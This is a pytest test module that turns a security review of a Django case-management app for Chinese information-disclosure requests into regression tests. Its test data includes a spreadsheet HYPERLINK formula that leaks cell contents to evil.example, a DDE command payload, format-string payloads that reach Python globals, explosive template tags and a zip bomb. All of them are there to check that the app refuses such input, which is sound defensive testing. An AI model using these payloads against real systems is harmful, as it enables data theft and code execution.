"""Findings of the security review (/work/notes/review-security.md) that live in gongkai/cases."""

import ipaddress
from datetime import date
from io import BytesIO

import pytest
from django.core.cache import cache
from django.urls import reverse
from openpyxl import load_workbook

from gongkai.agencies.models import Role
from gongkai.audit.models import AuditEntry
from gongkai.cases import fees, intake, ledger, letters, steps
from gongkai.cases.models import CaseEvent, CaseSettings, EventKind, LetterKind
from gongkai.core import netaddr
from gongkai.core.errors import GongkaiError, Refused
from tests.conftest import logged_in, make_user

from .conftest import APPLICANT, register

d = date.fromisoformat


def post_action(client, app, name, **data):
    return client.post(reverse("cases:action", args=[app.pk, name]), {"revision": app.revision, **data})


# --- P1-1 formula injection in the ledger export -------------------------------------------------------------
def test_ledger_export_keeps_formulas_as_text(clerk, agency, today):
    register(clerk, agency, "2026-11-20", today, applicant_name='=HYPERLINK("http://evil.example/?"&A2,"点击")',
             content="=cmd|' /C calc'!A0")
    ws = load_workbook(BytesIO(ledger.export_xlsx(agency))).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)


# --- P1-2 unbounded fee quantities ---------------------------------------------------------------------------
@pytest.mark.parametrize("kw", [{"items": 10**25}, {"items": fees.MAX_ITEMS + 1}, {"pages": 10**25},
                                {"pages": fees.MAX_PAGES + 1}])
def test_absurd_fee_quantities_are_refused_in_chinese(make_case, clerk, today, kw, head):
    app = make_case("2026-11-20")
    with pytest.raises(GongkaiError, match="超出合理范围"):
        steps.fee_notice(head, app, on=today, revision=app.revision, today=today, **kw)
    assert not CaseEvent.objects.filter(kind=EventKind.FEE_NOTICE).exists()


def test_huge_fee_items_through_the_page_is_a_message_not_a_crash(client, clerk, make_case):
    app = make_case("2026-11-20")
    r = post_action(logged_in(client, clerk), app, "fee", items="9" * 25, on="2026-11-25")
    assert r.status_code == 302 and not CaseEvent.objects.filter(kind=EventKind.FEE_NOTICE).exists()


# --- P1-3 the letter number pattern is not a format string --------------------------------------------------
@pytest.mark.parametrize("pattern", ["{n:99999999999}", "{prefix.__class__.__init__.__globals__}{n}",
                                     "{n:>100000000}{n}", "{0}{n}", "x" * 61 + "{n}"])
def test_number_patterns_with_format_specs_or_attributes_are_refused(client, head, agency, pattern):
    r = logged_in(client, head).post(reverse("cases:settings", args=[agency.code]), {
        "consult_span": "exclusive", "letter_number_pattern": pattern}, follow=True)
    assert r.status_code == 200 and "依申请公开设置已保存" not in r.content.decode()
    assert not CaseSettings.objects.filter(letter_number_pattern=pattern).exists()
    assert letters.format_number(pattern, "测", 2026, 7) == "测〔2026〕第7号"  # a stored bad pattern falls back


def test_number_pattern_is_filled_by_substitution():
    assert letters.format_number("{prefix}〔{year}〕{n}号", "嘉商公开", 2026, 12) == "嘉商公开〔2026〕12号"


# --- P1-4 client address behind the trusted proxy; per-code tracking failures ---------------------------------
@pytest.mark.urls("tests.cases.urls")
def test_tracking_limits_key_on_the_forwarded_client_not_the_proxy(client, agency, monkeypatch):
    cache.clear()
    monkeypatch.setattr(netaddr, "trusted_proxies", lambda: (ipaddress.ip_network("127.0.0.1/32"),))
    from django.utils import timezone

    app = intake.submit_online(agency, dict(APPLICANT), now=timezone.now())
    for _ in range(11):
        client.post(reverse("apply:track"), {"code": "WRONGCODE1", "phone_last4": "0000"},
                    REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="203.0.113.9")
    blocked = client.post(reverse("apply:track"), {"code": app.tracking_code, "phone_last4": "5678"},
                          REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="203.0.113.9")
    other = client.post(reverse("apply:track"), {"code": app.tracking_code, "phone_last4": "5678"},
                        REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.7")
    assert blocked.status_code == 429 and other.status_code == 200
    assert app.tracking_code in other.content.decode()
    cache.clear()


@pytest.mark.urls("tests.cases.urls")
def test_one_tracking_code_cannot_be_brute_forced_from_many_addresses(client, agency):
    from django.utils import timezone

    cache.clear()
    app = intake.submit_online(agency, dict(APPLICANT), now=timezone.now())
    for i in range(20):
        client.post(reverse("apply:track"), {"code": app.tracking_code, "phone_last4": f"{i:04d}"},
                    REMOTE_ADDR=f"10.0.0.{i + 1}")
    r = client.post(reverse("apply:track"), {"code": app.tracking_code, "phone_last4": "5678"},
                    REMOTE_ADDR="10.0.1.1")
    assert r.status_code == 429 and "查询失败次数过多" in r.content.decode()
    cache.clear()


# --- P1-5 / P1-6 / P2-7 bad years and dates ------------------------------------------------------------------
@pytest.mark.parametrize("year", ["-5", "0", "99999", "9" * 25])
def test_bad_years_are_messages_not_500s(client, clerk, year):
    c = logged_in(client, clerk)
    assert c.get(reverse("cases:dashboard"), {"cell": "t3/grant/natural", "year": year}).status_code == 302
    assert c.get(reverse("cases:ledger_export"), {"year": year}).status_code == 200


def test_ancient_dates_are_refused(clerk, agency, today, make_case):
    with pytest.raises(GongkaiError, match="不能早于2000年"):
        register(clerk, agency, "0001-01-01", today, channel="post_plain")
    app = make_case("2026-11-20")
    with pytest.raises(GongkaiError, match="不能早于2000年"):
        intake.override_received_date(clerk, app, d("0001-01-02"), "x", revision=app.revision, today=today)


def test_delay_35_until_the_end_of_time_is_refused(make_case, head, today):
    app = make_case("2026-11-20")
    with pytest.raises(GongkaiError, match="最晚为现有答复期限后一年"):
        steps.delay_35(head, app, until=d("9999-12-31"), reason="数量过多", revision=app.revision, today=today)


# --- P1-6.3 / P3-1 letter templates -----------------------------------------------------------------------------
@pytest.mark.parametrize("body", ["{% for a, b in fee_lines %}{{a}}{% endfor %}", "{% debug %}",
                                  "{% lorem 100000 %}", '{{ party|ljust:"100000000" }}', "{% url 'cases:dashboard' %}"])
def test_templates_that_fail_or_explode_on_real_data_are_refused_at_save(agency, head, body):
    with pytest.raises(GongkaiError, match="模板"):
        letters.save_template(head, agency, LetterKind.FEE, title="收费通知书", body=body)


def test_a_broken_stored_template_is_a_refusal_not_a_500(make_case, clerk, agency, today, head):
    app = make_case("2026-11-20")
    tpl = letters.template_for(agency, LetterKind.FEE)
    tpl.body = "{% for a, b in fee_lines %}{{a}}{% endfor %}"
    tpl.save()
    with pytest.raises(Refused, match="文书模板有误"):
        steps.fee_notice(head, app, pages=50, on=today, revision=app.revision, today=today)
    assert not CaseEvent.objects.filter(kind=EventKind.FEE_NOTICE).exists()


# --- P2-2 full ID and phone only for those handling the case --------------------------------------------------
def test_reviewer_and_oversight_see_masked_id_and_phone(client, reviewer, oversight, clerk, make_case):
    app = make_case("2026-11-20")
    for user in (reviewer, oversight):
        body = logged_in(client, user).get(reverse("cases:detail", args=[app.pk])).content.decode()
        assert "370101199001011234" not in body and "13812345678" not in body and "138****5678" in body
    body = logged_in(client, clerk).get(reverse("cases:detail", args=[app.pk])).content.decode()
    assert "370101199001011234" in body


# --- P2-8 upload size ---------------------------------------------------------------------------------------------
def test_oversized_or_bomb_imports_are_refused(clerk, agency, today, monkeypatch):
    with pytest.raises(GongkaiError, match="文件过大"):
        ledger.import_xlsx(clerk, agency, b"PK" + b"0" * (ledger.MAX_IMPORT_BYTES + 1), today=today)
    import zipfile

    buf = BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/big.xml", b"0" * (2 * 1024 * 1024))
    monkeypatch.setattr(ledger, "MAX_INFLATED_BYTES", 1024 * 1024)
    with pytest.raises(GongkaiError, match="解压后过大"):
        ledger.import_xlsx(clerk, agency, buf.getvalue(), today=today)


# --- P2-9 the role before the revision --------------------------------------------------------------------------
def test_wrong_role_gets_403_even_with_a_stale_revision(client, reviewer, make_case):
    app = make_case("2026-11-20")
    r = logged_in(client, reviewer).post(reverse("cases:action", args=[app.pk, "confirm"]), {"revision": "0"})
    assert r.status_code == 403


# --- P3-2 / P3-4 --------------------------------------------------------------------------------------------------
def test_audit_log_shows_the_masked_name(make_case):
    app = make_case("2026-11-20")
    entry = AuditEntry.objects.filter(action="case.register").last()
    assert "张*" in entry.object_repr and "张三" not in entry.object_repr and str(app).endswith("张*")


def test_ledger_export_is_for_clerks_heads_and_oversight(client, reviewer, oversight, agency, government):
    assert logged_in(client, reviewer).get(reverse("cases:ledger_export")).status_code == 403
    r = logged_in(client, oversight).get(reverse("cases:ledger_export"), {"agency": agency.code})
    assert r.status_code == 200
    admin = make_user("dept-admin", agency, Role.ADMIN)
    assert logged_in(client, admin).get(reverse("cases:ledger_export")).status_code == 403
